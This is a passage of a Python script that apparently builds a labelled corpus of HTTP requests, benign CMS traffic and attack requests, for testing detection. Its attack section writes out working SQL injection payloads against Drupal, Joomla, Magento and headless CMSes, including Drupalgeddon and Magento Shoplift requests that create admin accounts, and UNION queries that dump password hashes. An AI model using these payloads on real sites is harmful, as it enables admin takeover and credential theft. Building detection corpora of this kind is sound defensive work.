        return B(c, "cron", "GET", "/cron/" + tok(43, B64URL), [["Host", h], ["User-Agent", pick(["Wget/1.21.2", "curl/8.5.0", "EasyCron/1.0 (https://www.easycron.com/)"])], ["Accept", "*/*"]])
    if r < 0.45:
        h = host("drupal")
        return B(c, "cron", "POST", "/admin/config/system/cron", browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]),
                 form([("cron_safe_threshold", pick(["0", "3600", "10800"])), ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "system_cron_settings"), ("op", "Run cron")]))
    if r < 0.6:
        h = host("drupal")
        return B(c, "cron", "GET", pick(["/update.php", "/update.php/selection", "/update.php/results?op=info", "/admin/reports/updates/check?token=" + tok(43, B64URL), "/admin/reports/status"]),
                 browser(h, cookie=ck_drupal()))
    if r < 0.75:
        h = host("joomla")
        return B(c, "cron", "GET", "/index.php?option=com_ajax&plugin=RunSchedulerWebcron&group=system&format=json&hash=" + tok(32, ALNUM),
                 [["Host", h], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"]])
    if r < 0.88:
        h = host("craft")
        return B(c, "cron", "POST", "/index.php?p=admin/actions/queue/run", browser(h, accept="application/json", cookie=ck_craft(),
                                                                                    extra=[["X-Requested-With", "XMLHttpRequest"], ["Content-Type", "application/x-www-form-urlencoded"], ["X-CSRF-Token", hexs(64)]]), "")
    h = host("typo3")
    return B(c, "cron", "GET", "/typo3/module/system/scheduler?token=%s&CMD=%s" % (hexs(40), pick(["list", "info"])), browser(h, cookie=ck_typo3(True)))


def browse(c):
    """Plain page views with realistic query strings (utm, pagination, filters)."""
    cms = pick(["drupal", "magento", "craft", "ghost", "umbraco", "sitecore", "concrete", "typo3"])
    h = host(cms)
    slug = slugify(pick(TITLES))
    path = pick(["/news/%s" % slug, "/events/%s" % slug, "/%s" % slug, "/blog/%s/" % slug, "/en/%s" % slug])
    qs = pick(["", "?utm_source=newsletter&utm_medium=email&utm_campaign=june_2024", "?page=%d" % R.randint(1, 9), "?fbclid=" + tok(60, B64URL),
               "?gclid=" + tok(80, B64URL), "?ref=producthunt", "?category=%s&sort=newest" % pick(["union", "food-drink", "kids"]), "?mc_cid=%s&mc_eid=%s" % (hexs(10), hexs(10)),
               "?preview=true&token=" + tok(32, B64URL)])
    return B(c, "browse", "GET", path + qs, browser(h, referer=pick([None, "https://www.google.com/", "https://t.co/" + tok(10), "https://l.facebook.com/"])))


# =====================================================================
# dev-content: developers posting code to forums, docs and support desks
# =====================================================================

DEV_SNIPPETS = [
    ("Form alter not firing for the login form", "php",
     "/**\n * Implements hook_form_alter().\n */\nfunction mymodule_form_alter(&$form, FormStateInterface $form_state, $form_id) {\n  if ($form_id == 'user_login_form') {\n    $form['#submit'][] = 'mymodule_login_submit';\n    $form['name']['#attributes']['placeholder'] = t('Email or username');\n  }\n}\n"),
    ("How do I output a render array with markup?", "php",
     "$build['intro'] = [\n  '#type' => 'markup',\n  '#markup' => '<p>' . $this->t('Hello @name', ['@name' => $account->getDisplayName()]) . '</p>',\n  '#cache' => ['contexts' => ['user']],\n];\nreturn $build;\n"),
    ("Entity query returns unpublished nodes", "php",
     "$nids = \\Drupal::entityQuery('node')\n  ->accessCheck(TRUE)\n  ->condition('type', 'article')\n  ->condition('status', 1)\n  ->sort('created', 'DESC')\n  ->range(0, 10)\n  ->execute();\n$nodes = \\Drupal\\node\\Entity\\Node::loadMultiple($nids);\n"),
    ("Slow query on node_field_data", "sql",
     "SELECT n.nid, n.title, u.name\nFROM node_field_data n\nINNER JOIN users_field_data u ON u.uid = n.uid\nWHERE n.type = 'article' AND n.status = 1\nORDER BY n.created DESC\nLIMIT 10;\n\n-- EXPLAIN shows a filesort, is there an index on (type, status, created)?\n"),
    ("Changed base URL after migration, admin redirects to old domain", "sql",
     "UPDATE core_config_data SET value = 'https://shop.example.com/' WHERE path IN ('web/unsecure/base_url', 'web/secure/base_url');\nSELECT config_id, scope, scope_id, path, value FROM core_config_data WHERE path LIKE 'web/%url%';\n"),
    ("setup:upgrade fails after composer update", "shell",
     "$ bin/magento maintenance:enable\n$ composer update --with-all-dependencies\n$ bin/magento setup:upgrade && bin/magento setup:di:compile && bin/magento setup:static-content:deploy -f en_US de_DE\n$ bin/magento cache:flush\n$ bin/magento maintenance:disable\n"),
    ("drush updb hangs on my local", "shell",
     "drush sql-dump --result-file=../backup-$(date +%F).sql --gzip\ndrush updb -y\ndrush cim -y && drush cr\n# also tried: ddev exec drush php-eval 'echo \\Drupal::VERSION;'\n"),
    ("Twig: loop over paragraphs and add a class", "twig",
     "{% for item in content.field_paragraphs['#items'] %}\n  {% set p = item.entity %}\n  <section{{ attributes.addClass('paragraph--' ~ p.bundle|clean_class) }}>\n    {{ content.field_paragraphs[loop.index0] }}\n  </section>\n{% endfor %}\n{{ content|without('field_paragraphs', 'links') }}\n"),
    ("Craft: eager loading entries with related images", "twig",
     "{% set entries = craft.entries()\n  .section('news')\n  .with(['heroImage', 'author'])\n  .orderBy('postDate DESC')\n  .limit(10)\n  .all() %}\n{% for entry in entries %}\n  <h2><a href=\"{{ entry.url }}\">{{ entry.title }}</a></h2>\n  {% if entry.heroImage|length %}<img src=\"{{ entry.heroImage[0].getUrl({width: 600}) }}\" alt=\"\">{% endif %}\n{% endfor %}\n"),
    ("Shopify theme: show metafield only if set", "liquid",
     "{% if product.metafields.custom.care_instructions != blank %}\n  <div class=\"care\">{{ product.metafields.custom.care_instructions | metafield_tag }}</div>\n{% endif %}\n{% for variant in product.variants %}\n  {{ variant.title | escape }} – {{ variant.price | money }}\n{% endfor %}\n"),
    ("Ghost theme: get featured posts in the footer", "handlebars",
     "{{#get \"posts\" filter=\"featured:true\" limit=\"3\" include=\"tags\"}}\n  {{#foreach posts}}\n    <a href=\"{{url}}\">{{title}}</a> {{#if primary_tag}}<span>{{primary_tag.name}}</span>{{/if}}\n  {{/foreach}}\n{{/get}}\n"),
    ("Joomla 4: query articles from a custom module", "php",
     "use Joomla\\CMS\\Factory;\n$db = Factory::getContainer()->get('DatabaseDriver');\n$query = $db->getQuery(true)\n  ->select($db->quoteName(['a.id', 'a.title', 'a.alias']))\n  ->from($db->quoteName('#__content', 'a'))\n  ->where($db->quoteName('a.state') . ' = 1')\n  ->order($db->quoteName('a.publish_up') . ' DESC')\n  ->setLimit(5);\n$rows = $db->setQuery($query)->loadObjectList();\n"),
    ("TYPO3 TypoScript for the page template", "typoscript",
     "page = PAGE\npage.10 = FLUIDTEMPLATE\npage.10 {\n  templateName = Default\n  templateRootPaths.10 = EXT:site_package/Resources/Private/Templates/Page/\n  dataProcessing.10 = TYPO3\\CMS\\Frontend\\DataProcessing\\MenuProcessor\n  dataProcessing.10.levels = 2\n}\nconfig.contentObjectExceptionHandler = 0\n"),
    ("Umbraco: rendering a block list in Razor", "razor",
     "@inherits Umbraco.Cms.Web.Common.Views.UmbracoViewPage<ContentModels.NewsArticle>\n@{\n    Layout = \"master.cshtml\";\n}\n<h1>@Model.Value(\"title\")</h1>\n@foreach (var block in Model.MainContent)\n{\n    @await Html.PartialAsync(\"blocklist/Components/\" + block.Content.ContentType.Alias, block)\n}\n"),
    ("Directus docker-compose with Postgres", "yaml",
     "services:\n  database:\n    image: postgis/postgis:13-master\n    environment:\n      POSTGRES_USER: directus\n      POSTGRES_PASSWORD: directus\n      POSTGRES_DB: directus\n  directus:\n    image: directus/directus:10.10.5\n    ports:\n      - 8055:8055\n    environment:\n      DB_CLIENT: pg\n      DB_HOST: database\n      PUBLIC_URL: http://localhost:8055\n      ADMIN_EMAIL: admin@example.com\n"),
    ("Drupal services.yml for CORS on JSON:API", "yaml",
     "parameters:\n  cors.config:\n    enabled: true\n    allowedHeaders: ['x-csrf-token', 'authorization', 'content-type', 'accept', 'origin', 'x-requested-with']\n    allowedMethods: ['GET', 'POST', 'PATCH', 'DELETE']\n    allowedOrigins: ['https://www.example.com']\n    supportsCredentials: true\n"),
    ("nginx config for image styles returns 404", "nginx",
     "location ~ ^/sites/.*/files/styles/ {\n    try_files $uri @rewrite;\n}\nlocation @rewrite {\n    rewrite ^ /index.php;\n}\nlocation ~ '\\.php$|^/update.php' {\n    fastcgi_split_path_info ^(.+?\\.php)(|/.*)$;\n    include fastcgi_params;\n    fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n    fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n}\n"),
    (".htaccess rewrite for Joomla SEF URLs", "apache",
     "RewriteEngine On\nRewriteCond %{REQUEST_URI} !^/index\\.php\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule .* index.php [L]\n"),
    ("Drupal behaviors attach twice", "javascript",
     "(function (Drupal, once) {\n  Drupal.behaviors.accordion = {\n    attach(context, settings) {\n      once('accordion', '.js-accordion', context).forEach((el) => {\n        el.addEventListener('click', () => el.classList.toggle('is-open'));\n      });\n    },\n  };\n})(Drupal, once);\n"),
    ("Strapi: custom controller to populate relations", "javascript",
     "module.exports = createCoreController('api::article.article', ({ strapi }) => ({\n  async find(ctx) {\n    ctx.query = { ...ctx.query, populate: { author: { fields: ['name'] }, cover: true } };\n    const { data, meta } = await super.find(ctx);\n    return { data, meta };\n  },\n}));\n"),
    ("PDOException after upgrading to 10.2", "log",
     "Drupal\\Core\\Database\\DatabaseExceptionWrapper: SQLSTATE[42S22]: Column not found: 1054 Unknown column 'n.langcode' in 'where clause': SELECT \"n\".\"nid\" AS \"nid\" FROM {node_field_data} \"n\" WHERE (\"n\".\"langcode\" = :db_condition_placeholder_0); Array ( [:db_condition_placeholder_0] => en ) in Drupal\\Core\\Database\\StatementWrapperIterator->execute() (line 110 of core/lib/Drupal/Core/Database/StatementWrapperIterator.php).\n"),
    ("Magento cron not running", "shell",
     "* * * * * /usr/bin/php /var/www/html/bin/magento cron:run 2>&1 | grep -v \"Ran jobs by schedule\" >> /var/www/html/var/log/magento.cron.log\n\n$ bin/magento cron:install --force\n$ crontab -l\n"),
    ("Magento di.xml preference is ignored", "xml",
     "<?xml version=\"1.0\"?>\n<config xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"urn:magento:framework:ObjectManager/etc/config.xsd\">\n    <preference for=\"Magento\\Catalog\\Model\\Product\" type=\"Vendor\\Module\\Model\\Product\"/>\n    <type name=\"Magento\\Checkout\\Model\\Cart\">\n        <plugin name=\"vendor_cart_plugin\" type=\"Vendor\\Module\\Plugin\\CartPlugin\" sortOrder=\"10\"/>\n    </type>\n</config>\n"),
    ("GraphQL query for configurable product options", "graphql",
     "query ($sku: String!) {\n  products(filter: { sku: { eq: $sku } }) {\n    items {\n      ... on ConfigurableProduct {\n        configurable_options { attribute_code values { label value_index } }\n        variants { product { sku stock_status } attributes { code value_index } }\n      }\n    }\n  }\n}\n"),
    ("php.ini settings for big imports", "ini",
     "memory_limit = 2G\nmax_execution_time = 1800\nupload_max_filesize = 64M\npost_max_size = 64M\nrealpath_cache_size = 10M\nopcache.memory_consumption = 512\n"),
    ("Composer patch for webform", "json",
     "{\n  \"extra\": {\n    \"patches\": {\n      \"drupal/webform\": {\n        \"Fix element_validate on composite\": \"https://www.drupal.org/files/issues/2024-03-11/webform-3411234-7.patch\"\n      }\n    }\n  },\n  \"require\": { \"cweagans/composer-patches\": \"^1.7\", \"drupal/webform\": \"^6.2\" }\n}\n"),
    ("Hugo deploy workflow", "yaml",
     "name: Deploy Hugo site\non:\n  push:\n    branches: [main]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with: { submodules: recursive }\n      - uses: peaceiris/actions-hugo@v3\n        with: { hugo-version: '0.126.1', extended: true }\n      - run: hugo --minify --baseURL \"${{ steps.pages.outputs.base_url }}/\"\n"),
    ("Directus flow: run script operation", "javascript",
     "module.exports = async function (data) {\n  const items = data.$trigger.payload.items || [];\n  return { count: items.length, ids: items.map((i) => i.id), when: data.$last?.timestamp };\n};\n"),
    ("Sitecore PowerShell: find items with empty meta description", "powershell",
     "Get-ChildItem -Path \"master:/sitecore/content/Home\" -Recurse |\n  Where-Object { $_.TemplateName -eq \"Article\" -and [string]::IsNullOrEmpty($_.\"Meta Description\") } |\n  Select-Object -Property Name, ItemPath, Updated |\n  Show-ListView\n"),
    ("MySQL backup before Joomla update", "shell",
     "mysqldump -u joomla -p --single-transaction --routines joomla_db > joomla-$(date +%Y%m%d).sql\ntar czf site-files.tgz --exclude='./cache' --exclude='./tmp' .\n"),
]


def dev_content(c):
    title, lang, code = pick(DEV_SNIPPETS)
    intro = pick(["Hi all, I'm stuck with this:", "Following the docs I wrote the snippet below, but it doesn't work:",
                  "Posting my solution in case it helps someone:", "Can anyone spot what's wrong here?", "This worked for me on 10.2:"])
    outro = pick(["Any ideas? Thanks in advance!", "Cheers, Siobhan", "Running PHP 8.2, MariaDB 10.6.", "", "EDIT: solved, see comment #3."])
    r = R.random()
    if r < 0.3:
        h = host("drupal")
        esc = code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        html = "<p>%s</p><pre><code class=\"language-%s\">%s</code></pre><p>%s</p>" % (intro, lang, esc, outro)
        pairs = [("title[0][value]", title), ("body[0][value]", html), ("body[0][format]", "basic_html"), ("taxonomy_forums", str(R.randint(1, 20))),
                 ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "node_forum_form"), ("op", "Save")]
        return c.add("dev-content", "forum_post", "pass", "POST", "/node/add/forum?forum_id=%d" % R.randint(1, 20),
                     browser(h, cookie=ck_drupal(), extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    if r < 0.5:
        h = pick(["discuss.openfield.example", "forum.magento-community.example", "community.craft-users.example"])
        raw = "%s\n\n```%s\n%s```\n\n%s" % (intro, lang, code, outro)
        body = {"raw": raw, "title": title, "category": R.randint(1, 40), "archetype": "regular", "typing_duration_msecs": R.randint(5000, 200000),
                "composer_open_duration_msecs": R.randint(10000, 400000), "nested_post": True}
        if R.random() < 0.5:
            body = {"raw": raw, "topic_id": R.randint(1000, 99999), "reply_to_post_number": R.randint(1, 30), "nested_post": True}
        return c.add("dev-content", "forum_post", "pass", "POST", "/posts.json", browser(h, accept="application/json, text/javascript, */*; q=0.01",
                                                                                            extra=[["Content-Type", "application/json"], ["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", tok(86, B64URL)]]), jdump(body))
    if r < 0.65:
        h = host("ghost")
        card = jdump({"version": "0.3.1", "atoms": [], "cards": [["markdown", {"markdown": "%s\n\n```%s\n%s```\n\n%s" % (intro, lang, code, outro)}]], "markups": [], "sections": [[10, 0]]})
        return c.add("dev-content", "docs_post", "pass", "POST", "/ghost/api/admin/posts/", api(h, "Ghost-Admin-API/1.13.11", "application/json", auth="Ghost " + jwt_like()),
                     jdump({"posts": [{"title": title, "mobiledoc": card, "status": "draft", "tags": ["Tutorials", lang]}]}))
    if r < 0.8:
        h = pick(["support.hosting-co.example", "help.agency-desk.example"])
        pairs = [("ticket[subject]", title), ("ticket[description]", "%s\n\n%s\n%s" % (intro, code, outro)), ("ticket[email]", person()[1]),
                 ("ticket[priority]", pick(["low", "normal", "high"])), ("ticket[product]", pick(["Drupal hosting", "Magento hosting", "Managed Joomla"])), ("authenticity_token", tok(86, B64URL))]
        return c.add("dev-content", "support_ticket", "pass", "POST", "/tickets", browser(h, extra=[["Content-Type", "application/x-www-form-urlencoded"]]), form(pairs))
    h = host("netlify")
    md = "---\ntitle: \"%s\"\nlayout: docs\n---\n\n%s\n\n```%s\n%s```\n" % (title.replace('"', "'"), intro, lang, code)
    body = {"message": "Update docs: %s" % title[:50], "content": base64.b64encode(md.encode()).decode(), "branch": "cms/docs/" + slugify(title)}
    if R.random() < 0.5:
        body = {"content": md, "encoding": "utf-8"}
        return c.add("dev-content", "docs_blob", "pass", "POST", "/.netlify/git/github/git/blobs", browser(h, accept="application/json", extra=[["Authorization", "Bearer " + jwt_like()], ["Content-Type", "application/json"]]), jdump(body))
    return c.add("dev-content", "docs_post", "pass", "PUT", "/.netlify/git/github/contents/content/docs/%s.md" % slugify(title), browser(h, accept="application/json", extra=[["Authorization", "Bearer " + jwt_like()], ["Content-Type", "application/json"]]), jdump(body))


BENIGN_PLAN = [
    (drupal_jsonapi, 20), (drupal_node_form, 20), (drupal_views_ajax, 14), (drupal_media, 12), (image_styles, 20), (drupal_misc, 16), (drupal_comments, 8),
    (joomla_site, 20), (joomla_admin, 18), (magento_rest, 20), (magento_graphql, 12), (magento_admin, 12), (magento_store, 18), (shopify, 16),
    (ghost, 20), (strapi, 20), (directus, 16), (craft, 14), (typo3, 14), (umbraco_sitecore, 14), (concrete, 6), (headless, 16),
    (markdown_posts, 8), (translations, 16), (seo_meta, 10), (redirects, 10), (menus, 10), (form_builders, 20), (search_pages, 20),
    (feeds, 8), (cron_update, 8), (browse, 8),
]


def build_benign():
    R.seed(SEED + 1)
    c = Corpus()
    for fn, n in BENIGN_PLAN:
        fill(n, lambda fn=fn: fn(c))
    fill(50, lambda: dev_content(c))
    return c


# =====================================================================
# Attacks
# =====================================================================

ATTACK_UAS = UA_BROWSERS + ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
                            "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0", "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"]


def aua():
    return pick(ATTACK_UAS)


def A(c, cat, sub, method, uri, headers, body=None):
    return c.add(cat, sub, "detect", method, uri, headers, body, strict=True)


def AR(c, cat, sub, method, uri, headers, body_bytes=None, raw_head=None):
    return c.add_raw(cat, sub, "detect", method, uri, headers, body_bytes, strict=True, raw_head=raw_head)


def ah(h, ctype=None, cookie=None, accept=ACCEPT_HTML, extra=None, referer=None):
    hd = browser(h, accept=accept, cookie=cookie, ua=aua(), referer=referer)
    if ctype:
        hd.append(["Content-Type", ctype])
    for kv in extra or []:
        hd.append(list(kv))
    return hd


FORM = "application/x-www-form-urlencoded"


def raw_form(pairs):
    """key=value joined without re-encoding (attackers hand-craft these)."""
    return "&".join("%s=%s" % kv for kv in pairs)


# ---------------------------------------------------------------- SQLi

def attacks_sqli(c):
    S = "sqli"
    # Drupalgeddon 1 (SA-CORE-2014-005): SQL in the array key of name[]
    h = host("drupal")
    A(c, S, "drupal_sa_core_2014_005", "POST", "/?q=node&destination=node", ah(h, FORM),
      "name[0%20;update+users+set+name%3d'admin'+,+pass+%3d+'$S$CTo9G7Lx2rJENglhirA8oi7v9LtLYWFrGm.F.0Jurx3aJAmSJ53g'+where+uid+%3d+'1';;#%20%20]=bob&name[0]=larry&pass=lol&form_build_id=&form_id=user_login_block&op=Log+in")
    A(c, S, "drupal_sa_core_2014_005", "POST", "/user/login", ah(host("drupal"), FORM),
      "name%5B0%3Binsert+into+users%28uid%2Cname%2Cpass%2Cstatus%2Cdata%29+values+%289991%2C%27drupal_sec%27%2C%27%24S%24DWqZQzKXn4r1iZF5gQ3VYT1WlU6bF1xBjFxqgZ0Oa1d6G3EuM7nQ%27%2C1%2C0x613a303a7b7d%29%3Binsert+into+users_roles%28uid%2Crid%29+values+%289991%2C3%29%3B%23+%5D=x&name%5B0%5D=y&pass=z&form_id=user_login&op=Log+in")
    A(c, S, "drupal_sa_core_2014_005", "POST", "/?q=user/login", ah(host("drupal"), FORM),
      "name[0;insert into menu_router (path, page_callback, access_callback, include_file, load_functions, to_arg_functions, description) values ('x1x','php_eval', '1', 'modules/php/php.module', '', '', '');#]=test&name[0]=test2&pass=test&form_id=user_login_block".replace(" ", "%20"))
    A(c, S, "drupal_sa_core_2014_005", "POST", "/node?destination=node", ah(host("drupal"), FORM),
      "name[0 and extractvalue(1,concat(0x5c,(select pass from users where uid=1)));#]=x&name[0]=y&pass=z&form_build_id=&form_id=user_login_block&op=Log+in".replace(" ", "+"))
    A(c, S, "drupal_sa_core_2014_005", "POST", "/user", ah(host("drupal"), FORM),
      "name%5B0%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(6))a)--%20%5D=a&name%5B0%5D=b&pass=c&form_id=user_login&op=Log%20in")

    # Joomla com_fields (CVE-2017-8917) and com_contenthistory (CVE-2015-7297)
    h = host("joomla")
    A(c, S, "joomla_com_fields", "GET", "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)", ah(h))
    A(c, S, "joomla_com_fields", "GET", "/index.php?option=com_fields&view=fields&layout=modal&list%5Bfullordering%5D=updatexml%280x3a%2Cconcat%281%2C%28select%20password%20from%20%23__users%20limit%200%2C1%29%29%2C1%29", ah(host("joomla")))
    A(c, S, "joomla_com_fields", "GET", "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=(CASE+WHEN+(5412=5412)+THEN+a.id+ELSE+(SELECT+1+UNION+SELECT+2)+END)", ah(host("joomla")))
    A(c, S, "joomla_com_fields", "GET", "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=(SELECT%206192%20FROM%20(SELECT(SLEEP(5)))bAKL)", ah(host("joomla")))
    A(c, S, "joomla_com_contenthistory", "GET", "/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=(exp(~(select+*+from(select+concat(0x3a,session_id,0x3a)+from+%23__session+where+userid>0+limit+0,1)x)))", ah(host("joomla")))
    A(c, S, "joomla_admin_filter", "POST", "/administrator/index.php?option=com_content&view=articles", ah(host("joomla"), FORM, cookie=ck_joomla()),
      form([("filter[search]", "%') AND EXTRACTVALUE(7421,CONCAT(0x5c,0x71,(SELECT MID(username,1,20) FROM #__users ORDER BY id LIMIT 0,1),0x71))-- -"),
            ("filter[published]", ""), ("list[fullordering]", "a.id DESC"), ("task", ""), (hexs(32), "1")]))
    A(c, S, "joomla_article_id", "GET", "/index.php?option=com_content&view=article&id=-42+UNION+ALL+SELECT+1,2,3,concat(username,0x3a,password),5,6,7+FROM+jos_users--+&Itemid=101", ah(host("joomla")))
    A(c, S, "joomla_api", "GET", "/api/index.php/v1/content/articles?filter[search]=x%27)%20OR%20SLEEP(5)%23", ah(host("joomla"), accept="application/vnd.api+json", extra=[["X-Joomla-Token", "c2hhMjU2OjI6" + tok(60, B64URL)]]))
    A(c, S, "joomla_search", "GET", "/index.php?option=com_search&searchword=%27/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,version(),3--%20-&searchphrase=all&Itemid=101", ah(host("joomla")))
    A(c, S, "joomla_itemid", "GET", "/index.php?option=com_content&view=featured&Itemid=101%27%20AND%20(SELECT%20ASCII(SUBSTRING((SELECT%20password%20FROM%20%23__users%20LIMIT%201),1,1)))%3E64%20AND%20%27x%27%3D%27x", ah(host("joomla")))

    # Magento / Adobe Commerce
    h = host("magento")
    base = "searchCriteria[filter_groups][0][filters][0]"
    A(c, S, "magento_searchcriteria", "GET", "/rest/V1/products?" + raw_form([(base + "[field]", "sku"), (base + "[value]", "1'%20OR%20'1'%3D'1"), (base + "[condition_type]", "eq")]), ah(h, accept=ACCEPT_JSON))
    A(c, S, "magento_searchcriteria", "GET", "/rest/default/V1/products?" + raw_form([(base + "[field]", "entity_id)%20or%20(select%20sleep(5))%23"), (base + "[value]", "1"), (base + "[condition_type]", "eq"), ("searchCriteria[pageSize]", "1")]), ah(host("magento"), accept=ACCEPT_JSON))
    A(c, S, "magento_searchcriteria", "GET", "/rest/V1/orders?" + form([(base + "[field]", "entity_id"), (base + "[value]", "1) UNION SELECT email,password_hash,3,4 FROM customer_entity-- -"), (base + "[condition_type]", "in")]),
      ah(host("magento"), accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, "abcdefghijklmnopqrstuvwxyz0123456789")]]))
    A(c, S, "magento_searchcriteria", "GET", "/rest/all/V1/categories/list?" + form([(base + "[field]", "name"), (base + "[value]", "%"), (base + "[condition_type]", "like"),
                                                                                        ("searchCriteria[sortOrders][0][field]", "(select if(substring(version(),1,1)=8,sleep(5),0))"), ("searchCriteria[sortOrders][0][direction]", "ASC")], raw_keys=True), ah(host("magento"), accept=ACCEPT_JSON))
    A(c, S, "magento_searchcriteria", "GET", "/rest/V1/cmsPage/search?" + form([(base + "[field]", "title"), (base + "[value]", "%' AND (SELECT 8533 FROM (SELECT(SLEEP(5)))xYz) AND '%'='"), (base + "[condition_type]", "like")]), ah(host("magento"), accept=ACCEPT_JSON))
    A(c, S, "magento_cve_2019_7139", "GET", "/catalog/product_frontend_action/synchronize?type_id=recently_products&ids[0][added_at]=&ids[0][product_id][from]=?&ids[0][product_id][to]=)))%20OR%20(SELECT%201%20UNION%20SELECT%202%20FROM%20DUAL%20WHERE%201=1)%20--%20-", ah(host("magento"), accept=ACCEPT_JSON, extra=[["X-Requested-With", "XMLHttpRequest"]]))
    A(c, S, "magento_cve_2019_7139", "GET", "/catalog/product_frontend_action/synchronize?type_id=recently_products&ids%5B0%5D%5Badded_at%5D=&ids%5B0%5D%5Bproduct_id%5D%5Bfrom%5D=%3F&ids%5B0%5D%5Bproduct_id%5D%5Bto%5D=%29%29%29%20OR%20%28SELECT%20SLEEP%285%29%29%20--%20-", ah(host("magento"), accept=ACCEPT_JSON))
    shoplift = ("popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);SET @SALT = 'rp';SET @PASS = CONCAT(MD5(CONCAT( @SALT , 'forme') ), CONCAT(':', @SALT ));"
                "SELECT @EXTRA := MAX(extra) FROM admin_user WHERE extra IS NOT NULL;INSERT INTO `admin_user` (`firstname`, `lastname`,`email`,`username`,`password`,`created`,`lognum`,`reload_acl_flag`,`is_active`,`extra`,`rp_token`,`rp_token_created_at`) "
                "VALUES ('Firstname','Lastname','email@example.com','forme',@PASS,NOW(),0,0,1,@EXTRA,NULL, NOW());INSERT INTO `admin_role` (parent_id,tree_level,sort_order,role_type,user_id,role_name) "
                "VALUES (1,2,0,'U',(SELECT user_id FROM admin_user WHERE username = 'forme'),'Firstname');")
    A(c, S, "magento_shoplift", "POST", "/index.php/admin/Cms_Wysiwyg/directive/index/", ah(host("magento"), FORM),
      form([("filter", base64.b64encode(shoplift.encode()).decode()), ("___directive", "e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWQgb3V0cHV0PWdldENzdkZpbGV9fQ"), ("forwarded", "1")]))
    A(c, S, "magento_shoplift", "POST", "/admin/Cms_Wysiwyg/directive/index/?forwarded=1&___directive=e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWQgb3V0cHV0PWdldENzdkZpbGV9fQ", ah(host("magento"), FORM), "filter=" + qp(shoplift))
    A(c, S, "magento_graphql", "POST", "/graphql", ah(host("magento"), "application/json", accept="*/*"),
      jdump({"query": "{ products(filter: { sku: { eq: \"24-MB01' OR SLEEP(5)#\" } }) { items { name sku } } }"}))
    A(c, S, "magento_graphql", "POST", "/graphql", ah(host("magento"), "application/json", accept="*/*"),
      jdump({"query": "query($s:String){ products(search:$s, filter:{ url_key:{ in:[\"a\",\"b')) UNION SELECT NULL,CONCAT(username,0x3a,password),NULL FROM admin_user-- -\"] } }){ items { name } } }", "variables": {"s": "bag"}}))
    A(c, S, "magento_admin_grid", "GET", "/admin/mui/index/render/?namespace=customer_listing&search=&filters%5Bplaceholder%5D=true&sorting%5Bfield%5D=entity_id%2C%28select%2Afrom%28select%28sleep%285%29%29%29a%29&sorting%5Bdirection%5D=asc&isAjax=true",
      ah(host("magento"), cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789"), accept=ACCEPT_JSON, extra=[["X-Requested-With", "XMLHttpRequest"]]))
    A(c, S, "magento_login", "POST", "/customer/account/loginPost/", ah(host("magento"), FORM, cookie=ck_magento()),
      form([("form_key", tok(16)), ("login[username]", "admin@example.com' OR 1=1-- -"), ("login[password]", "x"), ("send", "")]))
    A(c, S, "magento_header", "GET", "/checkout/cart/", ah(host("magento"), cookie=ck_magento(), extra=[["X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM (SELECT SLEEP(5))a) AND '1'='1"]]))

    # headless / other CMSes
    A(c, S, "directus_filter", "GET", "/items/articles?filter%5Btitle%5D%5B_eq%5D=x%27%7C%7C(SELECT%20pg_sleep(5))%7C%7C%27&fields=*", ah(host("directus"), accept=ACCEPT_JSON))
    A(c, S, "directus_sort", "GET", "/items/articles?sort=(SELECT%20CASE%20WHEN%20(1%3D1)%20THEN%20pg_sleep(5)%20ELSE%20NULL%20END)&limit=1", ah(host("directus"), accept=ACCEPT_JSON))
    A(c, S, "strapi_sort", "GET", "/api/articles?sort[0]=title:asc,(select%20sleep(5))&pagination[pageSize]=1", ah(host("strapi"), accept=ACCEPT_JSON))
    A(c, S, "strapi_filter", "GET", "/api/articles?filters%5Bid%5D%5B%24in%5D%5B0%5D=1)%20OR%201%3D1%20UNION%20SELECT%20id,email,password,4%20FROM%20admin_users--", ah(host("strapi"), accept=ACCEPT_JSON))
    A(c, S, "ghost_order", "GET", "/ghost/api/content/posts/?key=%s&order=published_at%%20DESC,(CASE%%20WHEN%%20(SELECT%%20SUBSTR(password,1,1)%%20FROM%%20users%%20LIMIT%%201)%%3D%%27%%24%%27%%20THEN%%20title%%20ELSE%%20slug%%20END)" % hexs(26), ah(host("ghost"), accept=ACCEPT_JSON))
    A(c, S, "craft_search", "GET", "/search?q=x%27)%20AND%20(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)--%20-", ah(host("craft")))
